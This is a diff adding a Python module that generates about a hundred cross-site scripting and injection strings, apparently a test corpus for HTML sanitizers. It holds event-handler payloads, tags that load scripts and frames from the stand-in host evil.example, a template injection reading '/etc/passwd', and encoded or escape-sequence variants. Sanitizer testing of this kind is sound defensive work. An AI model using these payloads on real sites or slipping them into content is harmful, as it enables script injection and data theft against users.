@@ -1,0 +1,61 @@
+"""A hundred ways to make a page run somebody else's script or ask another host, should it take text for markup."""
+
+from itertools import product
+
+ELSEWHERE = "//evil.example/x"
+_CALLS = ("alert(1)", "confirm`1`", "top['al'+'ert'](1)")
+_EVENTS = (
+    "<img src=x onerror={}>",
+    "<svg onload={}>",
+    "<svg/onload={}//",
+    "<body onload={}>",
+    "<details open ontoggle={}>",
+    "<video><source onerror={}></video>",
+    "<audio src=x onerror={}>",
+    "<input autofocus onfocus={}>",
+    "<marquee onstart={}>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "<math><mtext></mtext><script>{}</script></math>",
+    '"><script>{}</script>',
+    "'><script>{}</script>",
+    '" onmouseover={} x="',
+    "' onfocus={} autofocus x='",
+    "`-{}-`",
+    "</title><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "</pre><script>{}</script><pre>",
+    "</code></td><img src=x onerror={}>",
+    "<scr<script>ipt>{}</script>",
+    "<ScRiPt>{}</sCrIpT>",
+    "<script/x>{}</script>",
+    "<a href=javascript:{}>x</a>",
+    "<form action=javascript:{}><button>x</button></form>",
+)
+_LOADS = (
+    f"<img src={ELSEWHERE}>",
+    f"<script src={ELSEWHERE}></script>",
+    f"<link rel=stylesheet href={ELSEWHERE}>",
+    f"<iframe src={ELSEWHERE}></iframe>",
+    f"<object data={ELSEWHERE}></object>",
+    f"<embed src={ELSEWHERE}>",
+    f"<base href={ELSEWHERE}>",
+    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
+    f"<style>@import '{ELSEWHERE}';</style>",
+    f'<div style="background:url({ELSEWHERE})">x</div>',
+    f"<svg><image href={ELSEWHERE}></svg>",
+    f"<video poster={ELSEWHERE}></video>",
+    f"![x]({ELSEWHERE})",
+    "{{7*7}}{% include '/etc/passwd' %}{# #}",
+    "${alert(1)}#{alert(1)}<%= 1 %>",
+    '<div hx-get="//evil.example/x" hx-trigger="load">x</div>',
+    '<div hx-on:load="alert(1)" data-hx-get="//evil.example/x" data-hx-trigger="load"></div>',
+    '<b data-plot="x" data-script="//evil.example/x" data-style="//evil.example/x"></b>',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "]]><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "\u202e<script>alert(1)</script>\u202c",
+    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
+)
+VECTORS = [form.replace("{}", call) for form, call in product(_EVENTS, _CALLS)] + list(_LOADS)
